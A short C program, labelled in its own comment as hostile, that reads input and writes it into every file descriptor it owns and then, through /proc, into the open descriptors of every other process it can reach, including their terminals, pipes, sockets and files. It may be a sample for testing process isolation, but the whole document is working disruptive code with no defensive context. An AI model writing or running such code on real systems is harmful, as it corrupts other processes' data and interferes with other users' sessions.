/* hostile: writes what it is given to every descriptor, of its own and of others */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void)
{
	static char words[65536], path[600];
	ssize_t length = read(0, words, sizeof words);
	DIR *processes = opendir("/proc");
	struct dirent *process;

	for (int fd = 0; fd < 1024; fd++)
		if (write(fd, words, length) == -1)
			continue;
	while (processes != NULL && (process = readdir(processes)) != NULL)
		for (int fd = 0; fd < 260; fd++) {
			snprintf(path, sizeof path, "/proc/%s/fd/%d", process->d_name, fd);
			int other = open(path, O_WRONLY | O_NONBLOCK | O_APPEND);

			if (other != -1 && write(other, words, length) == -1)
				continue;
		}
	return 0;
}
